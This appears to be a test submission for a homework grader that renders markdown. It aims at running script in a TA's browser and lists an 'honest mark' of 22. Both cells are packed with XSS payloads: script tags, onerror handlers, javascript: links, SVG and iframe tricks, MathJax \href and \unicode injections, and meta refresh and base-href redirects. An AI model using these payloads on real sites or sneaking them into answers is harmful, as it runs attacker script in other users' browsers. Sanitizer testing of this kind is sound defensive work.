"""Attack: tags, handlers, javascript: links and MathJax commands in the markdown answers.
Wants: a script in the TA's browser.
Honest mark: 22
"""

# %% reflect_smaller
<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![x](//example.org/x.png)
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg> <iframe srcdoc="<script>alert(1)</script>">
$\href{javascript:alert(1)}{x}$ $\unicode{<img src=x onerror=alert(1)>}$ &#60;script&#62;alert(1)&#60;/script&#62;

# %% reflect_direction
<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math> <form action="//x"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=https://example.org"> <base href="//example.org"> <link rel=stylesheet href=//x>
